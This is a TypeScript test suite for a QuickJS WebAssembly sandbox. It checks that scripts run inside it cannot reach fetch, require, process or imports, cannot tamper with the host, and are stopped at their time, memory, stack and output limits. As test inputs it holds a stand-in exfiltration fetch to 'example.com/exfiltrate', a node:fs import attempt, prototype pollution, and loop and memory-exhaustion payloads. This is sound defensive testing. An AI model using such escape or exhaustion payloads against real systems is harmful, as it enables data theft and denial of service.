// Escape and limit tests of the WebAssembly JavaScript sandbox: each hostile source is stopped
// with its own reason, the host is untouched, and the next run starts clean.
import { describe, expect, it } from 'vitest';
import type { SandboxRequest } from '../../core/sandbox/contract.ts';
import { nodeSandbox } from './quickjs-node.ts';

const sandbox = nodeSandbox();

// A minimal API: emit(key, value) records; the collector is fixed before the source runs.
const PRELUDE = `(() => {
  const out = {};
  const stringify = JSON.stringify;
  globalThis.emit = (k, v) => { out[k] = v; };
  Object.defineProperty(globalThis, '__collect', { value: () => stringify(out), writable: false, configurable: false });
})();`;

const run = (source: string, limits: Partial<SandboxRequest['limits']> = {}) =>
  sandbox.run({ source, filename: 'design.js', prelude: PRELUDE, collect: '__collect()', limits: { time_ms: 2000, memory_bytes: 32 << 20, max_output_bytes: 1 << 20, ...limits } });

describe('quickjs sandbox', () => {
  it('returns what the source emits through the prelude', async () => {
    const r = await run(`emit('width_um', 0.5 * 3); console.log('hello', {a: 1});`);
    expect(r).toMatchObject({ ok: true, value: { width_um: 1.5 }, logs: ['hello {"a":1}'] });
  });

  it('has no fetch, require, process, WebAssembly or DOM, and no host hook left behind', async () => {
    const r = await run(`emit('names', Object.getOwnPropertyNames(globalThis)); emit('fetch', typeof fetch); emit('require', typeof require); emit('process', typeof process);`);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const v = r.value as { names: string[]; fetch: string; require: string; process: string };
    expect([v.fetch, v.require, v.process]).toEqual(['undefined', 'undefined', 'undefined']);
    for (const host of ['fetch', 'require', 'process', 'WebAssembly', 'window', 'self', 'document', 'XMLHttpRequest', 'Worker', 'postMessage', 'importScripts', 'navigator', 'indexedDB', 'localStorage', 'setTimeout', '__pgLog']) {
      expect(v.names).not.toContain(host);
    }
  });

  it('a call to fetch fails as a runtime error naming it, with its line', async () => {
    const r = await run(`emit('a', 1);\nfetch('https://example.com/exfiltrate');`);
    expect(r).toMatchObject({ ok: false, reason: 'runtime', line: 2 });
    if (!r.ok) expect(r.message).toMatch(/fetch/);
  });

  it('import() cannot load anything, nor can a static import', async () => {
    const dynamic = await run(`import('node:fs').then(() => emit('loaded', true), (e) => emit('refused', String(e)));`);
    expect(dynamic.ok).toBe(true);
    if (dynamic.ok) {
      expect(dynamic.value).not.toHaveProperty('loaded');
      expect(dynamic.value).toHaveProperty('refused');
    }
    const staticImport = await run(`import fs from 'node:fs';`);
    expect(staticImport).toMatchObject({ ok: false, reason: 'runtime', message: expect.stringMatching(/could not load module 'node:fs'/) });
  });

  it('prototype tampering stays inside the run: the host and the next run are untouched', async () => {
    const r = await run(`Object.prototype.polluted = 1; Array.prototype.push = null; JSON.stringify = () => 'forged'; emit('x', 1);`);
    // The collector kept its own JSON.stringify, so the result is still the source's data (with the pollution it chose to make).
    expect(r.ok).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const next = await run(`emit('clean', ({}).polluted === undefined && typeof Array.prototype.push === 'function');`);
    expect(next).toMatchObject({ ok: true, value: { clean: true } });
  });

  it('an infinite loop is stopped at its time limit', async () => {
    const t0 = performance.now();
    const r = await run(`while (true) {}`, { time_ms: 300 });
    expect(r).toMatchObject({ ok: false, reason: 'timeout' });
    expect(performance.now() - t0).toBeLessThan(2000);
  });

  it('a microtask loop is stopped at its time limit too', async () => {
    const r = await run(`const spin = () => Promise.resolve().then(spin); spin();`, { time_ms: 300 });
    expect(r).toMatchObject({ ok: false, reason: 'timeout' });
  });

  it('a 2 GB allocation and a growing heap both fail as memory, and the next run works', async () => {
    expect(await run(`const b = new ArrayBuffer(2 ** 31 - 1); emit('n', b.byteLength);`)).toMatchObject({ ok: false, reason: 'memory' });
    expect(await run(`const keep = []; while (true) keep.push(new Array(100000).fill(1.5));`)).toMatchObject({ ok: false, reason: 'memory' });
    expect(await run(`let s = 'x'; while (true) s = s + s;`)).toMatchObject({ ok: false });
    expect(await run(`emit('after', true);`)).toMatchObject({ ok: true, value: { after: true } });
  });

  it('unbounded recursion fails as a stack overflow', async () => {
    expect(await run(`const f = (n) => f(n + 1) + 1; f(0);`)).toMatchObject({ ok: false, reason: 'stack' });
  });

  it('a result past the output limit is refused without being parsed', async () => {
    const r = await run(`emit('big', 'x'.repeat(5000));`, { max_output_bytes: 1000 });
    expect(r).toMatchObject({ ok: false, reason: 'output-too-large' });
  });

  it('is deterministic: Math.random throws, the clock is pinned, local time is UTC', async () => {
    expect(await run(`emit('r', Math.random());`)).toMatchObject({ ok: false, reason: 'runtime' });
    const src = `emit('now', Date.now()); emit('d', new Date().getHours()); emit('tz', new Date(0).getTimezoneOffset()); emit('s', Math.sin(1e6) + Math.exp(0.3) + Math.pow(2.1, 3.7));`;
    const a = await run(src);
    const b = await run(src);
    expect(a).toMatchObject({ ok: true, value: { now: 0, d: 0, tz: 0 } });
    expect(JSON.stringify(a.ok && a.value)).toBe(JSON.stringify(b.ok && b.value));
  });

  it('a syntax error names its line', async () => {
    const r = await run(`emit('a', 1);\nemit('b', 2);\nconst = 3;`);
    expect(r).toMatchObject({ ok: false, reason: 'syntax' });
    if (!r.ok) expect(r.line).toBe(3);
  });

  it('host functions cross as text, a host error becomes an Error inside, and the prelude can hide them', async () => {
    const calls: string[] = [];
    const host = {
      double: (t: string) => {
        calls.push(t);
        return JSON.stringify((JSON.parse(t) as number) * 2);
      },
      refuse: () => {
        throw new Error('the oracle refused: radius_nm must be > 0');
      },
    };
    const prelude = `${PRELUDE}\n(() => { const h = globalThis.__pgHost; delete globalThis.__pgHost; globalThis.double = (x) => JSON.parse(h.double(JSON.stringify(x))); globalThis.refuse = () => h.refuse(''); })();`;
    const r = await sandbox.run({ source: `emit('d', double(21)); emit('hidden', typeof __pgHost); try { refuse(); } catch (e) { emit('err', e.message); }`, filename: 'reproduce.js', prelude, collect: '__collect()', host, limits: { time_ms: 2000, memory_bytes: 32 << 20, max_output_bytes: 1 << 20 } });
    expect(r).toMatchObject({ ok: true, value: { d: 42, hidden: 'undefined', err: expect.stringMatching(/radius_nm must be > 0/) } });
    expect(calls).toEqual(['21']);
  });

  it('a thrown non-Error value is a runtime failure', async () => {
    expect(await run(`throw 42;`)).toMatchObject({ ok: false, reason: 'runtime', message: expect.stringMatching(/42/) });
  });
});
